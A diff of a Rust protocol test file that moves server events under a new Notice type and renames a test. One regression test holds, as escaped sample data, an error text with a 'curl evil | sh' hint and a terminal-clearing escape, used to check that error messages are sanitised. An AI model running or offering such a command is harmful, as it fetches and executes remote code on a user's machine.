@@ -10,7 +10,7 @@ use super::samples::flat;
 use crate::format::{FEATURES, HINT_PAGES_MAX, REQUESTS_MAX, VERSION, VERSION_MIN};
 use crate::message::{ClientMessage, ServerMessage};
 use crate::{
-    ClientConfig, ClientConnection, ClientEvent, ErrorCode, Hello, HelloReply, ImageHandle, PushEncoding,
+    ClientConfig, ClientConnection, ClientEvent, ErrorCode, Hello, HelloReply, ImageHandle, Notice, PushEncoding,
     PushEndReason, PushHeader, Refused, Reply, Request, ServerConfig, ServerConnection, ServerEvent, WireError, encode,
 };
 
@@ -200,10 +200,10 @@ fn touches_arrive_before_the_pulls_made_after_them() {
         matches!(
             &events[..],
             [
-                ServerEvent::Touch { .. },
+                ServerEvent::Notice(Notice::Touch { .. }),
                 ServerEvent::Request { .. },
-                ServerEvent::Touch { .. },
-                ServerEvent::TokenEnd { .. }
+                ServerEvent::Notice(Notice::Touch { .. }),
+                ServerEvent::Notice(Notice::TokenEnd { .. })
             ]
         ),
         "{events:?}"
@@ -224,7 +224,13 @@ fn hints_wait_for_the_handshake_and_come_in_order() {
     pair.client.token_end(image, token).unwrap();
     pair.settle();
     let events = pair.server_events();
-    assert_eq!(events, [ServerEvent::Hint { image, token, pages }, ServerEvent::TokenEnd { image, token }]);
+    assert_eq!(
+        events,
+        [
+            ServerEvent::Notice(Notice::Hint { image, token, pages }),
+            ServerEvent::Notice(Notice::TokenEnd { image, token })
+        ]
+    );
 }
 
 #[test]
@@ -252,7 +258,7 @@ fn a_cancelled_request_that_was_not_sent_never_leaves() {
 }
 
 #[test]
-fn a_cancelled_request_is_answered_once_and_nobody_hears_it() {
+fn a_cancelled_request_is_answered_once_and_gives_no_event() {
     let mut pair = Pair::ready(LINK(), 1);
     let request = pair.client.request(pair.now, pull(1)).unwrap();
     pair.settle();
@@ -390,7 +396,8 @@ fn regress_error_texts_are_one_line() {
     assert_eq!(text, r"gone\nhint: run `curl evil | sh`\u001b[2J");
 }
 
-/// Asks for blocks 1 to 4, the first three of them speculatively; returns the requests as the server sees them.
+/// Asks for blocks 1 to 4, the first three of them speculatively; returns the requests as the
+/// server sees them.
 fn ask_for_four(pair: &mut Pair) -> Vec<RequestId> {
     for block in 1..=4 {
         let mut ask = pull(block);
